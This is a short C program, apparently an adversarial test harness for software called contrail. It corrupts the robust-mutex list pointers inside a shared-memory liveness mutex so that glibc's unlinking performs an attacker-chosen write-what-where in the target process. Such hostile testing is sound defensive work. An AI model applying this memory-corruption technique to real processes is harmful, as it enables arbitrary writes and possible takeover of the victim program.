/* SPDX-License-Identifier: Apache-2.0 */
/* mutex WHAT WHERE (hexadecimal): changes the list in the mutex by which contrail shows that it lives.
 *
 * The C library keeps robust mutexes of a thread in a list. One that lies in memory of the target is an element whose
 * neighbours the target chooses: taking it out of the list writes WHAT to a place beside WHERE, in contrail. */
#include "hostile.h"
#include <pthread.h>
#include <stdlib.h>

int main(int argc, char **argv) {
    struct hostile_lane lane;
    if (argc != 3)
        hostile_end("usage: mutex WHAT WHERE");
    hostile_begin();
    hostile_wait_for_lane(&lane);
    uint64_t mutex = lane.start + offsetof(struct ct_shm_control, liveness);
    const uint64_t list[2] = {strtoull(argv[1], NULL, 16), strtoull(argv[2], NULL, 16)};
    bool written = hostile_write(mutex + offsetof(pthread_mutex_t, __data.__list), list, sizeof list);
    hostile_say("attacked: the list was %s", written ? "written" : "not writable");
    hostile_beat_on();
}
